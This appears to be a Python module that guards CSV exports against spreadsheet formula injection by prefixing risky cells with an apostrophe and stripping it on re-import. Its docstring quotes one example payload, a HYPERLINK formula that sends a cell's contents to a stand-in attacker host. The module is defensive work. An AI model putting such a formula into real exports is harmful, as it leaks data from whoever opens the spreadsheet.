"""CSV cells a spreadsheet opens as text, and read back as they were written.

Why: a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel and LibreOffice (OWASP's "CSV injection"): a record's title typed as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` in a curator's export would run in the
next curator's spreadsheet. Such a cell is written with a leading apostrophe (OWASP's rule),
which spreadsheets show as text; a number (``-1``, ``+2.5``) is left as it is.

Why reversible: the selection export is read back by ``harvestflow selection import`` to the
same records, so :func:`read_cell` drops the apostrophe :func:`safe_cell` added. The escaped
cells are exactly those matching ``'*[=+-@\\t\\r]`` (apostrophes first included), so any text
survives the round trip, and a hand-made file whose cells start with one apostrophe and a
letter is read as it is.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

_FORMULA = re.compile(r"'*[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _escapes(text: str) -> bool:
    return _FORMULA.match(text) is not None and _NUMBER.fullmatch(text) is None


def safe_cell(value: object) -> object:
    """``value`` as a CSV writer should write it: text a spreadsheet would take for a formula
    gets a leading apostrophe; numbers and other types are unchanged."""
    if isinstance(value, str) and _escapes(value):
        return "'" + value
    return value


# the first character of every cell _FORMULA can match
_FORMULA_START = frozenset("'=+-@\t\r")


def safe_row(values: Iterable[object]) -> list[object]:
    """Every cell of a row through :func:`safe_cell`.

    Inlined, with the first character tested before the expressions: a report's CSV has ~10^6
    cells, nearly all numbers or plain names, and a call per cell was most of the cost.
    """
    return [
        "'" + v if isinstance(v, str) and v and v[0] in _FORMULA_START and _escapes(v) else v
        for v in values
    ]


def read_cell(text: str) -> str:
    """A cell as :func:`safe_cell` received it (the apostrophe it added dropped)."""
    if text.startswith("'") and _escapes(text[1:]):
        return text[1:]
    return text
